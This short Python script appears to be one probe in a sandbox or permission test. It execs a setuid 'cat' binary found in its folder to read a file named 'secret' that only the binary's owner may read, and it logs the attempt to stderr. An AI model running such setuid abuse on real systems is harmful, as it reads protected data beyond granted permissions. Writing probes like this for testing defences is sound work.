"""Start a setuid program that lies in its folder, to read with it what only the program's owner may read."""

import os
import sys

# The secret's text is this attack's line of success: cat writes it where the others write theirs.
os.dup2(2, 1)
sys.stderr.write("trying: start a setuid program\n")
sys.stderr.flush()
os.execv("./cat", ["cat", "secret"])
